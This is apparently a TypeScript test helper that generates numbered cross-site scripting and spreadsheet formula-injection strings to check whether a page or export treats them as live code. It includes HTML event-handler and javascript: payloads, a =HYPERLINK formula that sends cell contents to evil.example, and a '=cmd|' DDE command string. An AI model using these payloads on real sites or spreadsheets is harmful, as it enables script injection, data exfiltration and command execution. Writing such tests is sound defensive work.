/** Texts that mean harm where they are shown as anything but texts, on a page or by a spreadsheet. What of them runs on a page calls
 *  `ran` with its number. */
const shapes: readonly ((n: number) => string)[] = [
  (n) => `<img src=x onerror=ran(${n})>`,
  (n) => `"><svg onload=ran(${n})>`,
  (n) => `</script><script>ran(${n})</script>`,
  (n) => `javascript:ran(${n})//`,
  (n) => `'-ran(${n})-'`,
  (n) => `<a href="javascript:ran(${n})">点这里</a>`,
  (n) => `&lt;img src=x onerror=ran(${n})&gt;`,
  (n) => `<iframe srcdoc="<script>parent.ran(${n})</script>"></iframe>`,
  (n) => `<details open ontoggle=ran(${n})>`,
  (n) => `{{constructor.constructor('ran(${n})')()}}\${ran(${n})}`,
  (n) => `<style>*{display:none}</style><b>ran(${n})</b>`,
  (n) => `\u202E<b onclick=ran(${n})>\u202C`,
  (n) => `]]><math><a xlink:href="javascript:ran(${n})">`,
  (n) => `" autofocus onfocus="ran(${n})" style="position:fixed;inset:0`,
  (n) => `<base href=//evil.example><meta http-equiv=refresh content="0;url=javascript:ran(${n})">`,
  (n) => `<template><slot onslotchange=ran(${n})></template><!--`,
  (n) => `=ran(${n})`,
  (n) => `@ran(${n})`,
  (n) => `+1+ran(${n})`,
  (n) => `-1+ran(${n})`,
  (n) => `=HYPERLINK("http://evil.example/?"&A1,"ran(${n})")`,
  (n) => `=cmd|'/C ran(${n})'!A0`,
];

/** Texts with a number of their own each, by which they are known again. */
export interface HostileTexts {
  /** A text of so many characters at most; the longest hold all that is known. */
  text(most: number): string;
  /** Number of the text that a value holds; undefined where it holds none of these. */
  numberOf(value: string): number | undefined;
  /** The text of a number. */
  textOf(number: number): string;
}

/** From so many characters on a field is given everything at once. */
const longEnough = 1000;

/** Makes texts, a different kind each time. */
export function hostileTexts(): HostileTexts {
  const made = [''];
  return {
    text(most) {
      const n = made.length;
      const all = shapes.map((shape) => shape(n));
      const fitting = all.filter(({ length }) => length <= most);
      // What a spreadsheet takes for more than a text does harm at the beginning alone: each kind stands there in its turn.
      const first = n % shapes.length;
      const text =
        most >= longEnough ? [...all.slice(first), ...all.slice(0, first)].join(' ') : fitting[n % fitting.length];
      if (text === undefined) throw new Error(`no text of so few characters: ${most}`);
      made.push(text);
      return text;
    },
    numberOf(value) {
      const found = /ran\((\d+)\)/.exec(value)?.[1];
      return found === undefined ? undefined : Number(found);
    },
    textOf: (number) => made[number] ?? '',
  };
}
